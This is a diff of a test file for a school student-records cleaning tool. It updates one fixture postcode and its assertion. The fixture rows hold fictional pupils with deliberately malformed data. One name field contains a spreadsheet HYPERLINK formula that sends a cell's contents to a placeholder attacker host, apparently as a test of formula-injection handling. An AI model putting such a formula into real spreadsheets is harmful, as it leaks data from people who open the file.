@@ -24,7 +24,7 @@ STUDENTS = [
     ("George", "Wilson", 40787, "M1 1AE", "Oakfield Academy", "Yr 10", "Male", "Yes"),  # serial of 2011-09-01
     ("Megan", "Evans", "03/02/2011", "CF10 1AA", "Oakfield Academy", "Year 11", "Prefer not to say", "Yes"),
     ("Ann", "Lee", "31/02/2011", "LS1 4AP", "Oakfield Academy", "Yr 10", "Female", "No"),  # no such day
-    ("Sam", "Reid", dt.date(2012, 1, 5), "LSI 4AP", "Oakfield Academy", "Yr 9", "Male", "Yes"),  # I for 1
+    ("Sam", "Reid", dt.date(2012, 1, 5), "M1 IAE", "Oakfield Academy", "Yr 9", "Male", "Yes"),  # I for 1
     ("Zoe", "O'Brien", dt.date(2011, 9, 1), "LS1 4AP", "Oakfield Academy", "Yr 10", "Female", "Yes"),  # copy
     ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "Khan", dt.date(2011, 5, 5), "LS1 4AP",
      "Oakfield Academy", "Yr 10", "Female", "Yes"),
@@ -87,7 +87,7 @@ def test_the_officer_export_cleans_end_to_end(tmp_path):
     status = dict(zip(st["row"], st["status"]))
     assert status[7] == "rejected"  # 31/02/2011
     assert status[9] == "needs attention"  # postcode fixed, but the school is a name
-    assert st["postcode"][4] == "LS1 4AP"
+    assert st["postcode"][4] == "M1 1AE"
     assert st["duplicate_of_row"][5] == 4  # Zoe O'Brien is Zoë O'Brien again
     problems = list(zip(out.problems["row"], out.problems["code"], out.problems["problem"]))
     assert (7, "bad_date", 'Date of birth "31/02/2011" is not a real date, or is written in a way heatkit '
